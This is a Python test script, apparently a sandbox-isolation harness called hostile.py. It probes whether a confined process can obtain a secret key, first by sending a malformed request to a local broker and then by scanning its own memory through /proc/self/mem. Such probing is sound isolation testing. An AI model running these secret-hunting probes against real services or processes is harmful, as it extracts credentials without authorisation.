@attempt("key_answer_malformed", b"GET\r\n\r\n")
def key_in_answer(request):
    if "BROKER" not in WORDS or "KEY" not in WORDS:
        raise Absent("there is no broker")
    with socket.create_connection(("127.0.0.1", int(WORDS["BROKER"])),
                                  PATIENCE_S) as s:
        s.sendall(request)
        if found_key(everything(s)):
            return "it stands in the answer"
    raise Refused("not-found")


@attempt("key_own_memory")
def key_in_own_memory():
    """After all that was asked of the broker."""
    if "KEY" not in WORDS:
        raise Absent("no key was given")
    with open("/proc/self/maps", encoding="ascii") as maps, \
            open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if line.split()[1][0] != "r" or "[v" in line:
                continue
            try:
                memory.seek(start)
                if found_key(memory.read(end - start)):
                    return line
            except (OSError, ValueError, OverflowError):
                continue
    raise Refused("not-found")


def try_one(name, function, args, harmful):
    try:
        say(name, judged(function, args, harmful))
    except Exception as e:  # a mistake of ours: it shows as one
        say(name, f"broken {type(e).__name__}: {e}")


def in_thread(name, function, args, harmful, verdicts):
    verdicts[name] = judged(function, args, harmful)


def main():
    print("BEGIN hostile.py", flush=True)
    verdicts, threads = {}, []
    if is_caged() and PART == 0:
        for one in slow:
            thread = threading.Thread(target=in_thread, args=(*one, verdicts))
            thread.start()
            threads.append(thread)
    for one in attempts[PART::PARTS]:
        try_one(*one)
    for thread in threads:
        thread.join()
    for name, verdict in verdicts.items():
        say(name, verdict)
    for one in last if is_caged() and PART == 0 else ():
        try_one(*one)
    time.sleep(0.5)  # the last lines of the log are written
    print("END hostile.py", flush=True)


main()
